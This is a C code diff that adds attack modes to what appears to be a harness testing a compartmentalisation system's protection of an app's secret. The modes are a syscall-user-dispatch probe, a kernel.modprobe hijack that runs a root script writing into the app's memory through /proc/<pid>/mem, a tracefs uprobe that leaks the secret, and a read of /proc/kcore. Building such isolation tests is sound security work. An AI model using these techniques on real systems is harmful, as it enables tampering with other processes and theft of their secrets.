@@ -14,6 +14,10 @@
 #include <stdlib.h>
 #include <string.h>
 #include <asm/prctl.h>
+#include <dlfcn.h>
+#include <link.h>
+#include <sys/socket.h>
+#include <time.h>
 #include <linux/bpf.h>
 #include <linux/perf_event.h>
 #include <sys/ioctl.h>
@@ -257,6 +261,154 @@ static long bpf_probe(uintptr_t target, long secret)
 	return found;
 }
 
+/* A system call made here only: syscall user dispatch's exempt region. */
+__attribute__((noinline, aligned(64))) static long own_syscall(long n, long a, long b, long c,
+							       long d, long e)
+{
+	long r;
+	register long r10 __asm__("r10") = d;
+	register long r8 __asm__("r8") = e;
+
+	__asm__ volatile("syscall"
+			 : "=a"(r)
+			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
+			 : "rcx", "r11", "memory");
+	return r;
+}
+
+/*
+ * Syscall user dispatch with its selector on a byte of app's that is 0
+ * (the secret's fourth): at each of app's system calls (app_busy) the
+ * kernel reads that byte under app's PKRU; 0 lets the call through, any
+ * other value would end the process, a refused read too (SIGSEGV). 1 when
+ * app's calls went through; 0 with errno set when refused.
+ */
+static long user_dispatch(uintptr_t target)
+{
+	long r = own_syscall(SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_ON,
+			     (long)(uintptr_t)own_syscall, 64, (long)(target + 3));
+	if (r < 0) {
+		errno = (int)-r;
+		return 0;
+	}
+	app_busy();
+	own_syscall(SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_OFF, 0, 0, 0);
+	return 1;
+}
+
+/* Writes s to path; 0, or -1 with errno set. */
+static int put(const char *path, const char *s, int flags)
+{
+	int fd = open(path, O_WRONLY | flags);
+	if (fd < 0)
+		return -1;
+	long r = write(fd, s, strlen(s));
+	int err = errno;
+	close(fd);
+	errno = err;
+	return r < 0 ? -1 : 0;
+}
+
+/*
+ * The kernel's module helper (root): kernel.modprobe names a script of
+ * evil's, and a socket of a family no module has loaded yet has the kernel
+ * run it, as root, outside the image's filter and Landlock; it writes 666
+ * into app's secret through /proc/<pid>/mem. The helper is put back.
+ */
+static long module_helper(uintptr_t target)
+{
+	const char *script = "/tmp/flexos-attack-helper", *knob = "/proc/sys/kernel/modprobe";
+	char was[256] = "", s[512];
+	int fd = open(knob, O_RDONLY);
+
+	if (fd >= 0) {
+		long n = read(fd, was, sizeof(was) - 1);
+		was[n > 0 ? n : 0] = 0;
+		close(fd);
+	}
+	snprintf(s, sizeof(s),
+		 "#!/bin/sh\nprintf '\\232\\002\\000\\000\\000\\000\\000\\000' | "
+		 "dd of=/proc/%d/mem bs=1 seek=%lu conv=notrunc 2>/dev/null\n",
+		 (int)getpid(), (unsigned long)target);
+	if (put(script, s, O_CREAT | O_TRUNC) || chmod(script, 0755))
+		return 0;
+	long r = 0;
+	if (!put(knob, script, 0)) {
+		static const int families[] = {5, 9, 21, 29, 30, 31, 35, 40, 41, 43, 45};
+		for (size_t i = 0; i < sizeof(families) / sizeof(families[0]); i++) {
+			int so = socket(families[i], SOCK_SEQPACKET, 0);
+			if (so >= 0)
+				close(so);
+			nanosleep(&(struct timespec){0, 50000000}, NULL);
+		}
+		put(knob, was, 0);
+		r = 1; /* app checks its secret */
+	}
+	int err = errno;
+	unlink(script);
+	errno = err;
+	return r;
+}
+
+static int load_of(struct dl_phdr_info *info, size_t size, void *data)
+{
+	uintptr_t *io = data; /* [0] an address in, [1] its file offset out, [2] the file's name */
+
+	(void)size;
+	for (int i = 0; i < info->dlpi_phnum; i++) {
+		const ElfW(Phdr) *p = &info->dlpi_phdr[i];
+		uintptr_t lo = info->dlpi_addr + p->p_vaddr;
+		if (p->p_type == PT_LOAD && io[0] >= lo && io[0] < lo + p->p_memsz) {
+			io[1] = io[0] - lo + p->p_offset;
+			io[2] = (uintptr_t)info->dlpi_name;
+			return 1;
+		}
+	}
+	return 0;
+}
+
+/*
+ * A uprobe defined through tracefs (root) on the C library's getppid,
+ * which app_busy calls, fetching app's secret: the kernel fetches it in
+ * the probed thread, under app's PKRU, into the trace. 1 when the trace
+ * holds the secret; 0 with errno set when refused. The probe is removed.
+ */
+static long uprobe(uintptr_t target, long secret)
+{
+	const char *events = "/sys/kernel/tracing/uprobe_events",
+		   *enable = "/sys/kernel/tracing/events/flexos_attack/leak/enable";
+	uintptr_t io[3] = {(uintptr_t)dlsym(RTLD_DEFAULT, "getppid"), 0, 0};
+	char def[512];
+
+	if (!io[0] || !dl_iterate_phdr(load_of, io)) {
+		errno = ENOENT;
+		return 0;
+	}
+	snprintf(def, sizeof(def), "p:flexos_attack/leak %s:%#lx secret=@%#lx:u64\n",
+		 (const char *)io[2], (unsigned long)io[1], (unsigned long)target);
+	if (put(events, def, O_APPEND))
+		return 0;
+	put("/sys/kernel/tracing/trace", "", O_TRUNC);
+	long found = 0;
+	if (!put(enable, "1", 0)) {
+		app_busy();
+		put(enable, "0", 0);
+		static char trace[1 << 20];
+		char want[64];
+		int fd = open("/sys/kernel/tracing/trace", O_RDONLY);
+		long n = fd < 0 ? -1 : read(fd, trace, sizeof(trace) - 1);
+		trace[n > 0 ? n : 0] = 0;
+		if (fd >= 0)
+			close(fd);
+		snprintf(want, sizeof(want), "secret=%lu\n", (unsigned long)secret);
+		found = strstr(trace, want) != NULL;
+	}
+	put(events, "-:flexos_attack/leak\n", O_APPEND);
+	if (!found)
+		errno = ENOENT;
+	return found;
+}
+
 static void *relay(void *arg)
 {
 	app_hold((int)(intptr_t)arg);
@@ -406,6 +558,15 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return perf_stack(secret);
 	case 31:
 		return bpf_probe(target, secret);
+	case 32:
+		return user_dispatch(target);
+	case 33:
+		return module_helper(target);
+	case 34:
+		return uprobe(target, secret);
+	case 35: /* physical memory, app's pages in it (root) */
+		r = open("/proc/kcore", O_RDONLY);
+		break;
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
